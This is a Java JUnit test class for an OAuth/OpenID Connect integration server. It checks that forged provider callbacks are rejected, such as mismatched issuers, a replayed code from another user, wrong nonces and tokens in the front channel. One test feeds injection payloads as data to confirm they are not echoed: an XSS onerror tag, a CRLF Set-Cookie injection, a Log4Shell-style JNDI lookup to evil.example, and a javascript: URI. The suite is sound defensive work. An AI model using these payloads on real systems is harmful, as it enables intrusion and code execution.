package dev.concierge.server.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.concierge.sandbox.Fault;
import dev.concierge.sandbox.Knobs;
import dev.concierge.server.jobs.JobRunner;
import dev.concierge.server.jobs.Lane;
import dev.concierge.server.support.Browser;
import dev.concierge.server.support.Page;
import dev.concierge.server.support.Visitor;
import dev.concierge.server.support.World;
import java.net.URI;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What comes back from a provider is believed as far as it is proven: issuer, code, errors, tokens in front. */
@Tag("flow")
class ForgedAnswerTest extends FlowCase {
    private static final Map<String, String> HTML = Map.of("Accept", "text/html");

    private Visitor alice;

    @BeforeAll
    void signUp() {
        alice = person();
    }

    @AfterEach
    void honestAgain() {
        world().sandbox().knobs().resetAll();
    }

    @Test
    @DisplayName("A-10 the issuer is missing, another, with a slash, in other case, and there twice")
    void the_issuer_is_missing_another_with_a_slash_in_other_case_and_there_twice() {
        URI callback = caught(alice);
        String issuer = parameter(callback, "iss");
        Browser browser = alice.browser();

        refused(browser, with(callback, "iss"), "issuer");
        refused(browser, with(callback, "iss", ""), "issuer");
        refused(browser, with(callback, "iss", "https://evil.example"), "issuer");
        refused(browser, with(callback, "iss", issuer + "/"), "issuer");
        refused(browser, with(callback, "iss", issuer.toUpperCase(Locale.ROOT)), "issuer");
        refused(browser, with(callback, "iss", " " + issuer), "issuer");
        refused(browser, with(callback, "iss", issuer, issuer), "duplicate");
        refused(browser, with(callback, "iss", issuer, "https://evil.example"), "duplicate");

        connects(alice, callback);
    }

    @Test
    @DisplayName("A-11 Eve puts a code of Bob's into her own callback")
    void eve_puts_a_code_of_bobs_into_her_own_callback() {
        Visitor bob = person();
        Visitor eve = person();
        URI bobs = bob.consent(bob.beginConnect(), Visitor.LINH_HOME, Set.of());
        URI hers = caught(eve);
        Traces before = traces();

        Page answer = land(eve.browser(), with(hers, "code", parameter(bobs, "code")), HTML);

        assertThat(answer.status()).as(answer.text()).isEqualTo(502);
        assertThat(answer.body()).doesNotContain(parameter(bobs, "code"));
        assertThat(eve.open("/integrations").text()).doesNotContain(Visitor.LINH_HOME);
        assertThat(rows("integrations")).isEqualTo(before.integrations());
        assertThat(rows("grants")).isEqualTo(before.grants());
        assertThat(refusals("invalid_grant")).isPositive();
    }

    @Test
    @DisplayName("A-11 the provider ignores PKCE: Bob's code in Eve's callback fails by the nonce alone")
    void bobs_code_in_eves_callback_fails_by_the_nonce_alone() {
        Visitor bob = person();
        Visitor eve = person();
        world().sandbox().knobs().set(Knobs.IGNORE_PKCE, true);
        URI bobs = bob.consent(bob.beginConnect(), Visitor.LINH_HOME, Set.of());
        URI hers = caught(eve);
        Traces before = traces();
        long written = refusals("id_token_nonce");

        Page answer = land(eve.browser(), with(hers, "code", parameter(bobs, "code")), HTML);

        assertThat(answer.status()).as(answer.text()).isEqualTo(502);
        assertThat(exchanges()).as("the provider gave Bob's tokens").isEqualTo(before.exchanges() + 1);
        assertThat(rows("integrations")).isEqualTo(before.integrations());
        assertThat(rows("grants")).isEqualTo(before.grants());
        assertThat(rows("pending_grants")).isEqualTo(before.pending());
        assertThat(refusals("id_token_nonce")).isEqualTo(written + 1);
        assertThat(eve.open("/integrations").text()).doesNotContain(Visitor.LINH_HOME);
        connects(eve, caught(eve));
    }

    @Test
    @DisplayName("A-11 the provider ignores PKCE: with Bob's code Eve is not signed in as Bob")
    void with_bobs_code_eve_is_not_signed_in_as_bob() {
        Visitor bob = world().visitor();
        Visitor eve = world().visitor();
        world().sandbox().knobs().set(Knobs.IGNORE_PKCE, true);
        URI bobs = signingIn(bob, Visitor.LINH_HOME);
        URI hers = signingIn(eve, Visitor.LINH_WORK);
        Traces before = traces();
        long written = refusals("id_token_nonce");

        Page answer = eve.browser().open(with(hers, "code", parameter(bobs, "code")));

        assertThat(answer.path()).isEqualTo("/login");
        assertThat(answer.text()).contains("That sign-in could not be used");
        assertThat(exchanges()).as("the provider gave Bob's tokens").isEqualTo(before.exchanges() + 1);
        assertThat(rows("sessions")).isEqualTo(before.sessions());
        assertThat(refusals("id_token_nonce")).isEqualTo(written + 1);
        assertThat(eve.open("/integrations").path()).isEqualTo("/login");
        Page chooser = eve.browser().open(signInAddress(eve));
        eve.browser().submit(chooser, "form[action='account']", Map.of("account", Visitor.LINH_WORK));
        assertThat(eve.open("/integrations").path()).isEqualTo("/integrations");
    }

    /** Presses Google's button on the sign-in page, consents, and stops at the callback's address. */
    private URI signingIn(Visitor visitor, String account) {
        Page chooser = visitor.browser().open(signInAddress(visitor));
        Page next = visitor.browser().submitOnly(chooser, "form[action='account']", Map.of("account", account));
        while (next.status() / 100 == 3 && !ours(Browser.location(next))) {
            next = visitor.browser().get(Browser.location(next), Map.of());
        }
        if (next.has("form[action='consent']")) {
            next = visitor.browser().submitOnly(next, "form[action='consent']", Map.of("decision", "allow"));
        }
        return Browser.location(next);
    }

    private boolean ours(URI address) {
        return address.getAuthority().equals(world().url("/").getAuthority());
    }

    private URI signInAddress(Visitor visitor) {
        Page next = visitor.browser().submitOnly(visitor.open("/login"), "form[action='/auth/login/google']", Map.of());
        return URI.create(
                next.find("a[href^='" + world().sandbox().baseUrl() + "']").attr("href"));
    }

    @Test
    @DisplayName(
            "A-11, B-08 an ID token carries another trip's nonce: nothing is connected, and nothing of the person's ended")
    void an_id_token_with_another_trips_nonce_connects_nothing_and_ends_nothing() {
        Visitor bob = person();
        connects(bob, caught(bob));
        Traces before = traces();
        world().sandbox().knobs().set(Knobs.WRONG_NONCE, true);

        Page answer = land(alice.browser(), caught(alice), HTML);

        assertThat(answer.status()).isEqualTo(502);
        assertThat(answer.text()).contains("does not prove whose account");
        assertThat(rows("integrations")).isEqualTo(before.integrations());
        assertThat(rows("grants")).isEqualTo(before.grants());
        world().sandbox().knobs().resetAll();
        revokeWhatIsDue();
        assertThat(world().sandbox().ledger().entries("google", "revoke"))
                .as("Google would end every grant of this account, Bob's too")
                .hasSize(before.revocations());
        assertThat(rows("pending_revocations")).isZero();
        connects(alice, caught(alice));
    }

    @Test
    @DisplayName(
            "A-11, B-08 where a revocation reaches one token only, the tokens of a foreign nonce are ended at the provider")
    void where_a_revocation_is_narrow_the_tokens_of_a_foreign_nonce_are_ended() {
        try (World narrow =
                World.start(1, Map.of(), google -> google.replaceFirst("reach: project\\b.*", "reach: token"))) {
            Visitor eve = narrow.visitor().signUp();
            narrow.sandbox().knobs().set(Knobs.WRONG_NONCE, true);

            Page answer = land(eve.browser(), eve.consent(eve.beginConnect(), Visitor.LINH_WORK, Set.of()), HTML);

            assertThat(answer.status()).isEqualTo(502);
            JobRunner jobs = narrow.server().bean(JobRunner.class);
            for (Lane lane : Lane.values()) {
                jobs.runDue(lane);
            }
            assertThat(narrow.sandbox().ledger().entries("google", "revoke")).isNotEmpty();
            assertThat(narrow.database()
                            .owner()
                            .sql("select count(*) from pending_revocations")
                            .query(Long.class)
                            .single())
                    .as("nothing is kept of them")
                    .isZero();
        }
    }

    private void revokeWhatIsDue() {
        JobRunner jobs = world().server().bean(JobRunner.class);
        for (Lane lane : Lane.values()) {
            jobs.runDue(lane);
        }
    }

    @Test
    @DisplayName("A-14 Mallory says no in Alice's name")
    void mallory_says_no_in_alices_name() {
        URI callback = caught(alice);
        URI denied = query(
                callback,
                List.of(
                        new Browser.Field("error", "access_denied"),
                        new Browser.Field("state", parameter(callback, "state")),
                        new Browser.Field("iss", parameter(callback, "iss"))));

        refused(world().visitor().browser(), denied, "state");

        connects(alice, callback);
    }

    @Test
    @DisplayName("A-14 an error answer carries markup, line breaks, a script address and a hundred kilobytes")
    void an_error_answer_carries_markup_line_breaks_a_script_address_and_a_hundred_kilobytes() {
        for (String poison : List.of(
                "<img src=x onerror=alert(1)>",
                "a\r\nSet-Cookie: evil=1",
                "${jndi:ldap://evil.example/a}",
                "\u202Egnp.exe",
                "x".repeat(7000))) {
            Page answer = land(alice.browser(), error(poison, poison), HTML);

            assertThat(answer.status()).isEqualTo(502);
            assertThat(answer.body())
                    .doesNotContain(poison)
                    .doesNotContain("onerror")
                    .doesNotContain("evil.example");
            assertThat(answer.headers().map()).doesNotContainKey("evil");
            assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(cookie -> cookie.contains("evil"));
        }
        Page tooLong = alice.browser().get(error("server_error", "x".repeat(100_000)), HTML);
        assertThat(tooLong.status()).isBetween(400, 431);
        assertThat(tooLong.body()).doesNotContain("xxxxxxxxxx").doesNotContainIgnoringCase("tomcat");
        assertThat(rowsWith("evil.example")).as("nothing foreign in the trail").isZero();
        connects(alice, caught(alice));
    }

    @Test
    @DisplayName("A-18 tokens come in the front channel, and the answer comes as a form")
    void tokens_come_in_the_front_channel_and_the_answer_comes_as_a_form() {
        URI callback = caught(alice);
        Browser browser = alice.browser();

        refused(browser, with(callback, "access_token", "ya29.forged"), "token_in_front_channel");
        refused(browser, with(callback, "id_token", "e30.e30.e30"), "token_in_front_channel");
        refused(browser, with(callback, "response", "e30.e30.e30"), "token_in_front_channel");
        refused(browser, with(callback, "error", "access_denied"), "form");
        refused(browser, with(callback, "code"), "form");
        refused(browser, with(callback, "code", ""), "form");
        refused(browser, with(callback, "code", "x".repeat(5000)), "form");

        Traces before = traces();
        Page posted = browser.send(
                "POST",
                world().url(CALLBACK),
                callback.getRawQuery(),
                Map.of(
                        "Content-Type",
                        "application/x-www-form-urlencoded",
                        "Origin",
                        world().sandbox().baseUrl()));
        assertThat(posted.status()).as("this provider answers by query").isBetween(400, 405);
        assertThat(traces()).isEqualTo(before);

        connects(alice, callback);
    }

    @Test
    @DisplayName("A-20 the token endpoint sends the code elsewhere")
    void the_token_endpoint_sends_the_code_elsewhere() {
        for (int status : List.of(301, 302, 303, 307, 308)) {
            Traces before = traces();
            world().sandbox().knobs().set(Knobs.FAIL_NEXT, List.of(Fault.FailNext.of("token", status)));

            Page answer = land(alice.browser(), caught(alice), HTML);

            assertThat(answer.status()).as("%s: %s", status, answer.text()).isBetween(500, 503);
            assertThat(exchanges()).as("one call, none after it").isEqualTo(before.exchanges() + 1);
            assertThat(rows("integrations")).isEqualTo(before.integrations());
        }
        connects(alice, caught(alice));
    }

    @Test
    @DisplayName("A-20 our own redirects after a form are 303")
    void our_own_redirects_after_a_form_are_303() {
        Visitor bob = world().visitor();
        Page form = bob.browser().open(world().url("/signup"));
        Map<String, String> fields = Map.of("name", "Bob Example", "email", bob.email(), "password", bob.password());
        assertThat(bob.browser()
                        .submitOnly(form, "form[action='/signup']", fields)
                        .status())
                .isEqualTo(303);

        Page login = bob.browser().open(world().url("/login"));
        Page in = bob.browser()
                .submitOnly(login, "form[action='/login']", Map.of("email", bob.email(), "password", bob.password()));
        assertThat(in.status()).isEqualTo(303);

        String integration = "/integrations/" + bob.connected(Visitor.LINH_WORK);
        Page question = bob.open(integration + "/disconnect");
        Page gone = bob.browser().submitOnly(question, "form[action='" + integration + "/disconnect']", Map.of());
        assertThat(gone.status()).isEqualTo(303);
    }

    private URI error(String code, String description) {
        URI callback = caught(alice);
        return query(
                callback,
                List.of(
                        new Browser.Field("error", code),
                        new Browser.Field("error_description", description),
                        new Browser.Field("error_uri", "javascript:alert(1)//evil.example"),
                        new Browser.Field("state", parameter(callback, "state")),
                        new Browser.Field("iss", parameter(callback, "iss"))));
    }

    private long rowsWith(String text) {
        return world().database()
                .owner()
                .sql("select count(*) from audit_events e where e::text like :text")
                .param("text", "%" + text + "%")
                .query(Long.class)
                .single();
    }
}
